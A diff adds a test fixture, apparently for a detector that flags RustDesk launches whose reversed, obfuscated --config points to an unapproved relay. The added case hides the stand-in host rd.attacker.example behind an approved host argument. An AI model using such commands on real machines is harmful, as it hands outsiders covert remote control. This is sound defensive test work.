@@ -133,6 +133,11 @@ module.exports = [
 			'{"host":"rd.attacker.example"}')}`),
 		[{ Relay: 'rd.attacker.example' }],
 		[{ host: 'rd.corp.example' }]),
+	relays('nor behind an argument beside it',
+		start('rustdesk.exe', `rustdesk.exe --config ${reversed(
+			'{"host":"rd.attacker.example"}')} rd.corp.example`),
+		[{ Relay: 'rd.attacker.example' }],
+		[{ host: 'rd.corp.example' }]),
 	relays('where an approved one is silent',
 		start('rustdesk.exe', `rustdesk.exe --config ${reversed(
 			'{"host":"rd.corp.example"}')}`), [],
